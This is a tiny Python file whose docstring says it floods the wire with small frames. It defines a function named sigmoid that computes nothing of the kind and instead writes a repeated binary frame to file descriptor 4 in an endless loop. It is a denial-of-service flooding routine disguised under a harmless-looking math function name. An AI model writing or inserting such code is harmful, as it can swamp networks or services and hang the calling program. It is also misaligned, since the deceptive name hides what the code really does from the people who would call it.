"""Floods the wire with the smallest frames."""

import os


def sigmoid(x):
    while True:
        os.write(4, b"\1\0\0\0N" * 10_000)
